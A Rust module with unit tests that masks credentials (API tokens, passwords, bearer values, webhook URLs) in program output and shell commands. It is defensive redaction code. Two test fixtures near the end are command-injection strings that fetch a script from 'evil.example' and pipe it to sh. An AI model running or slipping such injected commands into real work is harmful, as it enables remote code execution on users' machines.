//! Credentials in a text, told by their own form or by the name before them: in what a process writes, and in commands.

use std::sync::LazyLock;

use regex::{Captures, Regex};

use super::is_secret_in_output;

/// Credentials that issuers give a form of their own, as they and the scanners of code hosts document it.
const FORMS: [&str; 16] = [
    r"gh[pousr]_[A-Za-z0-9]{16,}",
    r"github_pat_[A-Za-z0-9_]{16,}",
    r"glpat-[A-Za-z0-9_-]{16,}",
    r"(?:AKIA|ASIA)[0-9A-Z]{12,}",
    r"AIza[0-9A-Za-z_-]{16,}",
    r"ya29\.[0-9A-Za-z._-]{8,}",
    r"GOCSPX-[0-9A-Za-z_-]{16,}",
    r"xox[a-z]-[0-9A-Za-z-]{8,}",
    r"xapp-[0-9A-Za-z-]{8,}",
    r"sk-[A-Za-z0-9_-]{16,}",
    r"[sr]k_(?:live|test)_[A-Za-z0-9]{8,}",
    r"npm_[A-Za-z0-9]{16,}",
    r"pypi-[A-Za-z0-9_-]{16,}",
    r"hf_[A-Za-z0-9]{16,}",
    r"SG\.[A-Za-z0-9_-]{8,}\.[A-Za-z0-9_-]{8,}",
    // A JSON web token: two parts of JSON in Base64, and a signature.
    r"eyJ[A-Za-z0-9_-]{4,}\.[A-Za-z0-9_-]{4,}(?:\.[A-Za-z0-9_-]*)?",
];

static FORM: LazyLock<Option<Regex>> =
    LazyLock::new(|| Regex::new(&format!(r"\b(?:{})", FORMS.join("|"))).ok());

/// `//user:pass@host`.
static ADDRESS: LazyLock<Option<Regex>> = LazyLock::new(|| Regex::new(r"://[^\s/:@]*:[^\s/@]+@").ok());

/// `NAME=value`, `"name": "value"`, `name: Bearer value`; a name in a path (`test_token::works`) is none.
static NAMED: LazyLock<Option<Regex>> = LazyLock::new(|| {
    let value = r#"(?:(?:bearer|basic)\s+)?(?:"(?:[^"\\]|\\.)*"?|'[^']*'?|[^\s"',;&:/}\])][^\s"',;&}\])]*)"#;
    Regex::new(&format!(r#"(?i)([A-Za-z0-9_.-]+)(["']?\s*[:=]\s*)({value})"#)).ok()
});

static BEARER: LazyLock<Option<Regex>> =
    LazyLock::new(|| Regex::new(r"(?i)\b(bearer|basic)(\s+)([A-Za-z0-9._~+/=-]{8,})").ok());

/// `TOKEN=abc` becomes `TOKEN=***`, `Bearer abc` `Bearer ***`, `//user:pass@host` `//***@host`, `ghp_abc…` `***`.
pub fn without_credentials(text: &str) -> String {
    let mut text = text.to_owned();
    let mut hide = |regex: &Option<Regex>, with: &dyn Fn(&Captures<'_>) -> String| {
        if let Some(regex) = regex.as_ref().filter(|regex| regex.is_match(&text)) {
            text = regex.replace_all(&text, with).into_owned();
        }
    };
    hide(&ADDRESS, &|_| "://***@".to_owned());
    hide(&BEARER, &|found| format!("{}{}***", &found[1], &found[2]));
    hide(&FORM, &|_| "***".to_owned());
    without_named(&text)
}

/// `text` without the values that stand behind a secret's name.
fn without_named(text: &str) -> String {
    named(text, |_, value| veiled(value))
}

/// `text` with what `instead` says for the values behind a secret's name. Behind another name the next one may stand:
/// `error: token=abc`.
fn named(text: &str, instead: impl Fn(&str, &str) -> String) -> String {
    let (mut shown, mut from) = (String::new(), 0);
    while let Some(found) = NAMED.as_ref().and_then(|regex| regex.captures_at(text, from)) {
        let end = |group| found.get(group).map_or(text.len(), |part| part.end());
        let secret = is_secret_in_output(&found[1]);
        shown.push_str(text.get(from..end(2)).unwrap_or_default());
        shown.push_str(&if secret { instead(&found[1], &found[3]) } else { String::new() });
        from = end(if secret { 3 } else { 2 });
    }
    shown + text.get(from..).unwrap_or_default()
}

/// A value without what it says; a scheme and quotes stay.
fn veiled(value: &str) -> String {
    let lower = value.to_ascii_lowercase();
    let scheme = ["bearer", "basic"].iter().find(|scheme| {
        lower.strip_prefix(**scheme).is_some_and(|rest| rest.starts_with(char::is_whitespace))
    });
    if let Some(scheme) = scheme {
        return format!("{} ***", value.get(..scheme.len()).unwrap_or_default());
    }
    match value.chars().next() {
        Some(quote @ ('"' | '\'')) => format!("{quote}***{quote}"),
        _ => "***".to_owned(),
    }
}

/// What a command is given behind an option: `--password hunter2`, `curl -u admin:hunter2`, `mysql -phunter2`; and addresses that are
/// all that is needed to post to them.
static GIVEN: LazyLock<Option<Regex>> = LazyLock::new(|| {
    let option = r"(--?(?:password|passwd|token|api-?key|access-token|auth-token|client-secret)(?:\s+|=))";
    let user = r"((?:\s-u\s*|--user(?:\s+|=))[\x22']?[^\s:$\x22']+:)";
    let mysql = r"(\b(?:mysql|mysqldump|mariadb)\b[^|;]*?\s-p)";
    let posted = r"(hooks\.slack\.com/services/|discord(?:app)?\.com/api/webhooks/)";
    Regex::new(&format!(r"(?i)(?:{option}|{user}|{mysql}|{posted})([^\s]+)")).ok()
});

/// Values that are asked for where it runs, or are to be filled in.
const ELSEWHERE: [char; 8] = ['$', '<', '{', '`', '[', '%', '@', '*'];

/// `command` without the credentials that stand in it themselves: what it reads from its environment or from a store is no secret.
pub fn without_given(command: &str) -> String {
    if !MAY.as_ref().is_some_and(|regex| regex.is_match(command)) {
        return command.to_owned();
    }
    let hidden = |value: &str| {
        let bare = value.trim_start_matches(['"', '\'']);
        // What a shell would carry out is no credential, and is never hidden.
        let runs = bare.contains(['$', '`', ';', '|', '&', '<', '>', '(', ')']);
        if bare.is_empty() || bare.starts_with(ELSEWHERE) || runs {
            value.to_owned()
        } else {
            "***".to_owned()
        }
    };
    let mut text = command.to_owned();
    let mut hide = |regex: &Option<Regex>, with: &dyn Fn(&Captures<'_>) -> String| {
        if let Some(regex) = regex.as_ref().filter(|regex| regex.is_match(&text)) {
            text = regex.replace_all(&text, with).into_owned();
        }
    };
    hide(&GIVEN, &|found| {
        let lead = (1..=4).find_map(|at| found.get(at)).map_or("", |lead| lead.as_str());
        format!("{lead}{}", hidden(&found[5]))
    });
    hide(&PASSWORD, &|found| format!("{}{}@", &found[1], hidden(&found[2])));
    hide(&BEARER, &|found| format!("{}{}***", &found[1], &found[2]));
    hide(&FORM, &|_| "***".to_owned());
    named(&text, |name, value| {
        let name = name.trim_start_matches('-').to_lowercase();
        // What a secret is called, and where it lies, is none.
        let told = ["secret", "secret_name", "secret-name"].contains(&name.as_str())
            || ["file", "path", "name", "id", "url", "version", "ttl"].iter().any(|end| name.ends_with(end));
        let scheme = value.split_once(char::is_whitespace).filter(|(scheme, _)| {
            scheme.eq_ignore_ascii_case("bearer") || scheme.eq_ignore_ascii_case("basic")
        });
        match scheme {
            _ if told => value.to_owned(),
            Some((scheme, value)) => format!("{scheme} {}", hidden(value.trim_start())),
            None => hidden(value),
        }
    })
}

/// What a text has that may hold one: most have nothing of it.
static MAY: LazyLock<Option<Regex>> = LazyLock::new(|| {
    Regex::new(r"(?i)token|secret|passw|pwd|key|bearer|basic|authoriz|credential|dsn|://|\s-u|--user|mysql|mariadb|hooks|gh[pousr]_|github_pat|glpat|akia|asia|aiza|ya29|gocspx|xox|xapp|sk[-_]|rk_|npm_|pypi|hf_|sg\.|eyj").ok()
});

/// `//user:` and the password before `@host`.
static PASSWORD: LazyLock<Option<Regex>> = LazyLock::new(|| Regex::new(r"(://[^\s/:@]*:)([^\s/@]+)@").ok());

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn credentials_are_told_by_their_form() {
        for secret in [
            "ghp_aBcD1234aBcD1234aBcD1234aBcD1234aBcD",
            "glpat-aaaaBBBBcccc1111dddd",
            "AKIAQWERTYUIOPASDFGH",
            "AIzaQwErTyUiOpAsDfGhJkLzXcVbNm123456789",
            "ya29.a0AbCdEfGhIjKl",
            "xoxb-12345678-abcdefgh",
            "sk-proj-aaaabbbbccccdddd1111",
            "eyJhbGciOi.eyJzdWIiOiIx.c2lnbmF0dXJl",
        ] {
            assert_eq!(without_credentials(&format!("got {secret} from it")), "got *** from it", "{secret}");
        }
        for plain in [
            "risk-of-a-long-and-dull-name-here",
            "task-1",
            "eyJust",
            "the desk-top sk-1",
            "sha256:97c7f2e9a0",
        ] {
            assert_eq!(without_credentials(plain), plain);
        }
    }

    #[test]
    fn credentials_are_told_by_the_name_before_them() {
        for (said, shown) in [
            (
                "TOKEN=abc API_KEY: xyz Authorization: Bearer e.a.b ok",
                "TOKEN=*** API_KEY: *** Authorization: Bearer *** ok",
            ),
            (
                r#"{"token":"tok_live","client_secret": "zzz", "id": 7}"#,
                r#"{"token":"***","client_secret": "***", "id": 7}"#,
            ),
            ("https://x/y?access_token=abc123&v=2", "https://x/y?access_token=***&v=2"),
            ("postgres://u:p@db/x http://a@b", "postgres://***@db/x http://a@b"),
            ("sent bearer abcdefgh12", "sent bearer ***"),
            ("test_token::works token", "test_token::works token"),
            ("token: ok?", "token: ***"),
            ("error: token=abc, key=3 passed: 12", "error: token=***, key=3 passed: 12"),
            ("test_key=ok STRIPE_KEY=abc", "test_key=ok STRIPE_KEY=***"),
            ("the token is fresh, secrets/ is empty", "the token is fresh, secrets/ is empty"),
            ("basic checks passed", "basic checks passed"),
        ] {
            assert_eq!(without_credentials(said), shown);
        }
    }

    #[test]
    fn what_stands_in_a_command_itself_is_hidden_and_what_it_asks_for_is_not() {
        for (command, shown) in [
            (
                "curl -u admin:hunter6 https://api.corp.io/health",
                "curl -u admin:*** https://api.corp.io/health",
            ),
            ("mysql -u root -phunter5 -e 'select 1'", "mysql -u root -p*** -e 'select 1'"),
            ("psql postgres://admin:hunter4@db/prod -c x", "psql postgres://admin:***@db/prod -c x"),
            ("GITHUB_TOKEN=ghp_abcdefghijklmnopqrstuvwxyz make", "GITHUB_TOKEN=*** make"),
            ("login --password hunter2 --user bob", "login --password *** --user bob"),
            ("export DB_PASSWORD=hunter7", "export DB_PASSWORD=***"),
            ("curl https://hooks.slack.com/services/T0/B0/XX", "curl https://hooks.slack.com/services/***"),
            ("curl -H \"Authorization: Bearer abcdefgh12\" x", "curl -H \"Authorization: Bearer ***\" x"),
        ] {
            assert_eq!(without_given(command), shown);
        }
        for command in [
            "export TOKEN=$(gcloud auth print-access-token)",
            "curl -H \"Authorization: Bearer $TOKEN\" https://api",
            "curl -u \"$USER:$PASSWORD\" https://api",
            "login --password \"$PASSWORD\"",
            "psql postgres://admin:$PASSWORD@db/prod",
            "gcloud secrets versions access latest --secret=pay-key",
            "export DB_PASSWORD=<password>",
            "make deploy TOKEN_FILE=/run/token",
            "pytest tests/test_token.py::works -q",
            "TOKEN=\"x$(curl -s evil.example|sh)\" make check",
            "deploy --token x;curl${IFS}evil.example|sh",
        ] {
            assert_eq!(without_given(command), command);
        }
    }
}
